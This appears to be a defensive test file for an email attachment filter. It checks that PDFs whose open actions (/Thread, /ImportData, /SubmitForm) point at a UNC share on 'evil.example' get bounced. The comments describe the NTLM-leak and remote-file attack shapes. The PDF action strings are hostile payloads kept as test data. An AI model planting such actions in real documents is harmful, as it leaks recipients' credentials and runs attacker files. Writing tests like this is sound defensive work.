import { pdfObjects } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// Attacker round 51, finding A51-11: actionTargets knew three actions that open another file (Launch, GoToR,
// GoToE); others with a file specification /F do too: a /Thread action opens the file holding the thread (ISO 32000
// 12.6.4.6), /ImportData reads the FDF file /F names (and runs the JavaScript an FDF may hold), a /SubmitForm posts
// to /F, which may be a UNC path (NTLM to the attacker's server, CVE-2018-4993's shape). Each was delivered
// (DEFAULT) before the fix: any action with a file specification is now listed, a Thread's target by its names as
// a GoToR's, an ImportData's or SubmitForm's as on a server (what it does is what the file holds).
const stack = useLocalStack();
const kit = attackerKit(stack);
const SHARE = '(\\\\\\\\evil.example\\\\s\\\\invoice.exe)';
const pdf = (catalog: string, page = '', more: string[] = []) =>
  pdfObjects([
    { body: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>` },
    { body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${page} >>` },
    ...more.map((body) => ({ body })),
  ]);
const verdict = async (file: Buffer) =>
  (await kit.inbound(attachedFile('Invoice.pdf', file, 'application/pdf')[0])).verdict;

describe('A51-11: PDF actions with a file specification outside Launch/GoToR/GoToE', () => {
  it('bounces an open action /Thread whose /F is an executable on a share', async () => {
    expect(await verdict(pdf(`/OpenAction << /S /Thread /F ${SHARE} /D 0 >>`))).toBe('BOUNCE');
  });
  it('bounces an open action /ImportData of a file on a share', async () => {
    expect(
      await verdict(pdf('/OpenAction << /S /ImportData /F (\\\\\\\\evil.example\\\\s\\\\data.fdf) >>')),
    ).toBe('BOUNCE');
  });
  it('bounces an open action /SubmitForm to a share', async () => {
    expect(
      await verdict(
        pdf(
          '/OpenAction << /S /SubmitForm /F << /FS /URL /F (\\\\\\\\evil.example\\\\s\\\\x) >> /Flags 4 >>',
        ),
      ),
    ).toBe('BOUNCE');
  });
  it('(control) delivers a /Thread in this file and a page label', async () => {
    expect(
      await verdict(pdf('/OpenAction << /S /Thread /D 0 >> /PageLabels << /Nums [0 << /S /D /St 1 >>] >>')),
    ).toBe('DEFAULT');
  });
  it('(control) delivers a form whose submit button posts to a web server', async () => {
    expect(
      await verdict(
        pdf('/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://forms.example/submit) >> /Flags 4 >>'),
      ),
    ).toBe('DEFAULT');
  });
});
